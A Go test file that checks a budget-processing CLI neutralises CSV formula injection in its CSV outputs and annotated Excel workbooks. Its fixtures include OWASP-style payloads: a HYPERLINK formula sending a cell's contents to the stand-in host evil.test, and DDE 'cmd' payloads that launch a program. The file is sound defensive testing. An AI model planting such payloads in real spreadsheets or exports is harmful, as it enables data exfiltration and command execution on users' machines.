package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// hostileTexts would run as formulas if a spreadsheet program opened a
// CSV holding them verbatim (OWASP's CSV injection).
var hostileTexts = []string{
	`=HYPERLINK("http://evil.test/?"&A1,"Click")`,
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+2",
	" =1+2",
}

// writeHostileInputs writes a budget CSV, a staffing CSV and a framework
// whose text starts with formulas, and returns their paths.
func writeHostileInputs(t *testing.T) (budget, staffing, framework string) {
	t.Helper()
	dir := t.TempDir()
	rows := [][]string{{"Service", "Cost Centre", "Cost Centre Name", "Nominal", "Description", "Supplier", "Amount"}}
	for i, h := range hostileTexts {
		rows = append(rows, []string{h, "HM101", h, "6000", h, h, "1250.00"})
		rows = append(rows, []string{"Housing", "HM10" + string(rune('2'+i)), "Tenancy team", "5000", "Tenancy sustainment officer " + h, "Payroll", "32000.00"})
	}
	rows = append(rows, []string{"Housing", "HM101", "Tenancy team", "9000", "Recharge to capital", "Internal", "-12.50"})
	budget = filepath.Join(dir, "budget.csv")
	writeCSVFile(t, budget, rows)
	staffing = filepath.Join(dir, "staff.csv")
	writeCSVFile(t, staffing, [][]string{
		{"Post ID", "Job Title", "Team", "Cost Centre", "FTE", "Salary"},
		{"=P1", hostileTexts[0], hostileTexts[1], "HM101", "1", "31000"},
	})
	framework = filepath.Join(dir, "framework")
	if err := os.MkdirAll(framework, 0o755); err != nil {
		t.Fatal(err)
	}
	src := filepath.Join("..", "..", "templates", "framework")
	entries, err := os.ReadDir(src)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		b, err := os.ReadFile(filepath.Join(src, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		if e.Name() == "outcomes.csv" {
			b = []byte(strings.ReplaceAll(string(b), ",Secure homes,", ",@Secure homes,"))
		}
		if err := os.WriteFile(filepath.Join(framework, e.Name()), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return budget, staffing, framework
}

func writeCSVFile(t *testing.T, path string, rows [][]string) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w := csv.NewWriter(f)
	w.WriteAll(rows)
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

// csvNumberColumns are the CSV columns that hold numbers, which keep
// their minus signs.
var csvNumberColumns = map[string]bool{"row": true, "line_amount": true, "amount": true, "share": true,
	"total": true, "social": true, "post_fte": true, "post_cost": true, "fte": true}

// Text that starts a formula reaches allocations.csv, summary.csv and
// posts.csv as text, a ' before it, unless --csv-raw; numbers keep their
// signs; and the annotated workbook holds it as text, never a formula.
func TestCSVsNeutraliseFormulas(t *testing.T) {
	budget, staffing, framework := writeHostileInputs(t)
	for _, raw := range []bool{false, true} {
		out := t.TempDir()
		args := []string{"run", "-q", "--out", out, "--framework", framework, "--staffing", staffing}
		if raw {
			args = append(args, "--csv-raw")
		}
		r := runCLI(t, append(args, budget)...)
		if r.exit != 0 {
			t.Fatalf("raw %v: exit %d: %s", raw, r.exit, r.stderr)
		}
		seen := map[string]bool{} // hostile texts seen, raw, in some text column
		negative := false
		for _, name := range []string{"allocations.csv", "summary.csv", "posts.csv"} {
			f, err := os.Open(filepath.Join(out, name))
			if err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(f).ReadAll()
			f.Close()
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			header := recs[0]
			for _, rec := range recs[1:] {
				for i, v := range rec {
					col := header[i]
					if csvNumberColumns[col] {
						if strings.HasPrefix(v, "'") {
							t.Errorf("raw %v: %s column %s: number %q neutralised", raw, name, col, v)
						}
						negative = negative || strings.HasPrefix(v, "-")
						continue
					}
					text := v
					if !raw {
						if t0 := strings.TrimLeft(v, " \t\r\n"); t0 != "" && strings.ContainsRune("=+-@", rune(t0[0])) || strings.HasPrefix(v, "\t") || strings.HasPrefix(v, "\r") {
							t.Errorf("%s column %s: %q would run as a formula", name, col, v)
						}
						text = strings.TrimPrefix(v, "'")
					}
					for _, h := range append(hostileTexts, "@Secure homes", "=P1") {
						if strings.Contains(text, h) {
							seen[h] = true
						}
						if raw && strings.HasPrefix(v, "'") {
							t.Errorf("--csv-raw: %s column %s: %q has a ' added", name, col, v)
						}
					}
				}
			}
		}
		for _, h := range append(hostileTexts, "@Secure homes", "=P1") {
			if !seen[h] {
				t.Errorf("raw %v: %q is in no CSV: the test no longer tests it", raw, h)
			}
		}
		if !negative {
			t.Errorf("raw %v: no negative number in the CSVs: the credit line should keep its sign", raw)
		}
		checkNoFormulas(t, filepath.Join(out, "budget.annotated.xlsx"))
		checkNoFormulas(t, filepath.Join(out, "staff.annotated.xlsx"))
	}
}

// checkNoFormulas fails if a cell of the budget sheets of a workbook
// written from formula-free inputs holds a formula whose text came from a
// cell (the report sheets' own formulas are the tool's).
func checkNoFormulas(t *testing.T, path string) {
	t.Helper()
	if _, err := os.Stat(path); err != nil {
		return // no annotated copy of that input
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	texts := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, _ := f.GetCellFormula(sheet, ref)
				for _, h := range append(hostileTexts, "@Secure homes", "=P1") {
					if strings.Contains(formula, strings.TrimLeft(h, " \t=+-@")) {
						t.Errorf("%s sheet %q %s: formula %q from a cell's text", filepath.Base(path), sheet, ref, formula)
					}
					if v == h {
						texts++
					}
				}
			}
		}
	}
	if texts == 0 {
		t.Errorf("%s: no cell holds a hostile text as it was", filepath.Base(path))
	}
}
